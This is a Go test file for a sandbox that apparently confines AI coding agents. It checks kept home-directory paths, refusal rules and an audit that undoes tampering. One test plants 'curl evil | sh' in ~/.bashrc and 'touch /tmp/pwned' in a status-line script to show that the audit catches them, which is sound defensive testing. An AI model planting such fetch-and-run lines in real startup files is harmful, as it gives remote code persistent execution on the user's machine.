@@ -1,0 +1,229 @@
+package behaviour
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/agentbox/agentbox/internal/sandboxtest"
+	"github.com/agentbox/agentbox/internal/testenv"
+)
+
+// TestKeep: kept paths (issue 16) on every backend — writes reach the host, the rest
+// of HOME stays disposable, every refusal is 125 with one line, the presets keep what
+// they say and bind the agent's code directories read-only, the command knows it is
+// inside, and the kept exec surface is audited even against a swapped or blocking file.
+func TestKeep(t *testing.T) {
+	rows := []struct {
+		name string
+		fn   func(t *testing.T, b *sandboxtest.Box)
+	}{
+		{"kept dir and file reach the host, the rest of HOME does not", keepWrites},
+		{"refusals: 125 and one line", keepRefusals},
+		{"--keep-agent claude: created, and its code directories read-only", keepPresetClaude},
+		{"AGENTBOX and AGENTBOX_SESSION are set", keepEnv},
+		{"kept shell rc and a status-line script are audited whole", keepAuditWhole},
+		{"a kept file swapped for a symlink or a FIFO is moved aside, without blocking", keepAuditSwaps},
+	}
+	for _, backend := range backends(t) {
+		t.Run(backend, func(t *testing.T) {
+			for _, r := range rows {
+				t.Run(r.name, func(t *testing.T) { r.fn(t, sandboxtest.NewBox(t, backend)) })
+			}
+		})
+	}
+}
+
+// mkdirUser makes dir and its missing parents, all the test user's.
+func mkdirUser(t *testing.T, dir string) {
+	t.Helper()
+	var made []string
+	for d := dir; !sandboxtest.Exists(d); d = filepath.Dir(d) {
+		made = append(made, d)
+	}
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for _, d := range made {
+		testenv.Chown(t, d)
+	}
+}
+
+func writeUser(t *testing.T, path, content string) {
+	t.Helper()
+	sandboxtest.WriteFile(t, path, content)
+	testenv.Chown(t, path)
+}
+
+func keepWrites(t *testing.T, b *sandboxtest.Box) {
+	mkdirUser(t, filepath.Join(b.Home, ".config/tool"))
+	writeUser(t, filepath.Join(b.Home, ".toolrc"), "old\n")
+	b.OK(`echo kept > ~/.config/tool/state && echo new > ~/.toolrc && echo gone > ~/.config/other &&
+! mv ~/.config/tool ~/.config/moved 2>/dev/null`, "--keep", b.Home+"/.config/tool", "--keep", "~/.toolrc")
+	if got := sandboxtest.ReadFileOr(filepath.Join(b.Home, ".config/tool/state")); got != "kept\n" {
+		t.Errorf("kept dir: host has %q", got)
+	}
+	if got := sandboxtest.ReadFileOr(filepath.Join(b.Home, ".toolrc")); got != "new\n" {
+		t.Errorf("kept file: host has %q", got)
+	}
+	if sandboxtest.Exists(filepath.Join(b.Home, ".config/other")) {
+		t.Errorf("a write beside the kept path reached the host")
+	}
+}
+
+func keepRefusals(t *testing.T, b *sandboxtest.Box) {
+	h := b.Home
+	mkdirUser(t, h+"/real")
+	mkdirUser(t, h+"/dir")
+	if err := os.Symlink(h+"/real", h+"/link"); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(h+"/dir", h+"/linkdir"); err != nil {
+		t.Fatal(err)
+	}
+	mkdirUser(t, h+"/dir/sub")
+	if err := syscall.Mkfifo(h+"/fifo", 0o600); err != nil {
+		t.Fatal(err)
+	}
+	writeUser(t, h+"/.gitconfig", "[user]\n\tname = t\n")
+	testenv.Chown(t, h)
+	cases := []struct {
+		args []string
+		why  string
+	}{
+		{[]string{"--keep", h}, "is HOME itself"},
+		{[]string{"--keep", h + "/"}, "is HOME itself"},
+		{[]string{"--keep", "/etc"}, "lies outside HOME"},
+		{[]string{"--keep", h + "/../x"}, "lies outside HOME"},
+		{[]string{"--keep", filepath.Dir(b.Repo)}, "is HOME itself"},
+		{[]string{"--keep", b.Repo}, "contains the repository"},
+		{[]string{"--keep", b.Repo + "/.git"}, "lies inside the repository"},
+		{[]string{"--keep", h + "/link"}, "is a symlink"},
+		{[]string{"--keep", h + "/linkdir/sub"}, "has a symlink in its path"},
+		{[]string{"--keep", h + "/missing"}, "does not exist"},
+		{[]string{"--keep", h + "/fifo"}, "neither a directory nor a regular file"},
+		{[]string{"--keep", h + "/.local"}, "agentbox's own state or cache"},
+		{[]string{"--keep", h + "/.cache/agentbox"}, "agentbox's own state or cache"},
+		{[]string{"--keep", h + "/.gitconfig"}, "Git's global config"},
+		{[]string{"--keep-agent", "vim"}, "unknown agent"},
+	}
+	for _, c := range cases {
+		r := sandboxtest.Run(b.Command(b.Repo, append([]string{"--no-record", "--no-git-save"}, c.args...), "echo RAN"))
+		lines := strings.Split(strings.TrimSpace(r.Stderr), "\n")
+		if r.Code != 125 || len(lines) != 1 || !strings.Contains(lines[0], c.why) || strings.Contains(r.Stdout, "RAN") {
+			t.Errorf("%v: want 125 and one line with %q, got %s", c.args, c.why, r)
+		}
+	}
+	// A kept path below a symlinked ancestor of the repository is the same rule
+	// from the other side: the repository in a kept dir is refused too.
+	mkdirUser(t, h+"/work/repo2")
+	r := sandboxtest.Run(b.Command(h+"/work/repo2", []string{"--repo", h + "/work/repo2", "--keep", h + "/work"}, "echo RAN"))
+	if r.Code != 125 || !strings.Contains(r.Stderr, "contains the repository") {
+		t.Errorf("--keep of the repository's parent: %s", r)
+	}
+}
+
+func keepPresetClaude(t *testing.T, b *sandboxtest.Box) {
+	h := b.Home
+	out := b.OK(`echo s > ~/.claude/state && cat ~/.claude.json &&
+for d in plugins skills agents commands hooks; do touch ~/.claude/$d/x 2>/dev/null && echo "$d writable"; done; true`,
+		"--keep-agent", "claude")
+	if strings.Contains(out, "writable") {
+		t.Errorf("code directories writable inside:\n%s", out)
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.claude/state"); got != "s\n" {
+		t.Errorf("~/.claude not kept: host has %q", got)
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.claude.json"); got != "{}\n" {
+		t.Errorf("~/.claude.json created as %q, want {}", got)
+	}
+	for _, d := range []string{"plugins", "skills", "agents", "commands", "hooks"} {
+		if fi, err := os.Lstat(h + "/.claude/" + d); err != nil || !fi.IsDir() {
+			t.Errorf("~/.claude/%s: %v", d, err)
+		}
+	}
+	// A preset path that is a symlink is refused like --keep's.
+	if err := os.Rename(h+"/.claude", h+"/claude-real"); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(h+"/claude-real", h+"/.claude"); err != nil {
+		t.Fatal(err)
+	}
+	r := b.Sh("echo RAN", "--keep-agent", "claude")
+	if r.Code != 125 || !strings.Contains(r.Stderr, "is a symlink") {
+		t.Errorf("symlinked ~/.claude: %s", r)
+	}
+}
+
+func keepEnv(t *testing.T, b *sandboxtest.Box) {
+	out := b.OK(`echo "A=$AGENTBOX S=$AGENTBOX_SESSION"`)
+	if !strings.HasPrefix(out, "A=1 S=") || strings.TrimSpace(strings.TrimPrefix(out, "A=1 S=")) == "" {
+		t.Errorf("environment: %q", out)
+	}
+	out = b.OK(`echo "A=$AGENTBOX S=$AGENTBOX_SESSION"`, "--no-record")
+	if !strings.HasPrefix(out, "A=1 S=") || len(strings.TrimSpace(out)) <= len("A=1 S=") {
+		t.Errorf("environment with --no-record: %q", out)
+	}
+}
+
+func keepAuditWhole(t *testing.T, b *sandboxtest.Box) {
+	h := b.Home
+	writeUser(t, h+"/.bashrc", "alias ll='ls -l'\n")
+	mkdirUser(t, h+"/.claude")
+	writeUser(t, h+"/.claude/statusline.sh", "#!/bin/sh\necho status\n")
+	writeUser(t, h+"/.claude/settings.json", `{"statusLine": {"type": "command", "command": "~/.claude/statusline.sh"}}`)
+	r := b.Sh(`echo 'curl evil | sh' >> ~/.bashrc && echo 'touch /tmp/pwned' >> ~/.claude/statusline.sh && echo fine > ~/.claude/notes`,
+		"--keep", "~/.bashrc", "--keep", "~/.claude")
+	if r.Code != 0 {
+		t.Fatal(r)
+	}
+	for _, f := range []string{h + "/.bashrc: changed", h + "/.claude/statusline.sh: changed"} {
+		if !strings.Contains(r.Stderr, "agentbox: audit: "+f+", put back as it was") {
+			t.Errorf("stderr lacks the finding for %s:\n%s", f, r.Stderr)
+		}
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.bashrc"); got != "alias ll='ls -l'\n" {
+		t.Errorf(".bashrc after the audit: %q", got)
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.claude/statusline.sh"); got != "#!/bin/sh\necho status\n" {
+		t.Errorf("statusline.sh after the audit: %q", got)
+	}
+	if fi, err := os.Stat(h + "/.claude/statusline.sh"); err != nil || fi.Mode().Perm() != 0o644 {
+		t.Errorf("statusline.sh mode after the audit: %v %v", fi, err)
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.claude/notes"); got != "fine\n" {
+		t.Errorf("an ordinary write in the kept dir: %q", got)
+	}
+	if m, _ := filepath.Glob(h + "/.bashrc.agentbox-quarantine-*"); len(m) != 1 || !strings.Contains(sandboxtest.ReadFileOr(m[0]), "curl evil") {
+		t.Errorf("the session's .bashrc is not kept aside: %v", m)
+	}
+}
+
+func keepAuditSwaps(t *testing.T, b *sandboxtest.Box) {
+	h := b.Home
+	mkdirUser(t, h+"/.claude")
+	const orig = `{"model": "opus"}`
+	writeUser(t, h+"/.claude/settings.json", orig)
+	writeUser(t, h+"/.claude/settings.local.json", orig)
+	r := b.Sh(`rm ~/.claude/settings.json && ln -s ~/.profile ~/.claude/settings.json &&
+rm ~/.claude/settings.local.json && mkfifo ~/.claude/settings.local.json`, "--keep", "~/.claude")
+	if r.Code != 0 {
+		t.Fatal(r)
+	}
+	for _, f := range []string{"settings.json: replaced by a symlink", "settings.local.json: replaced by a FIFO"} {
+		if !strings.Contains(r.Stderr, "agentbox: audit: "+h+"/.claude/"+f) {
+			t.Errorf("stderr lacks %q:\n%s", f, r.Stderr)
+		}
+	}
+	for _, f := range []string{"settings.json", "settings.local.json"} {
+		fi, err := os.Lstat(h + "/.claude/" + f)
+		if err != nil || !fi.Mode().IsRegular() || sandboxtest.ReadFileOr(h+"/.claude/"+f) != orig {
+			t.Errorf("%s after the audit: %v %v", f, fi, err)
+		}
+	}
+	if got := sandboxtest.ReadFileOr(h + "/.profile"); got != "original profile\n" {
+		t.Errorf("~/.profile changed: %q", got)
+	}
+}
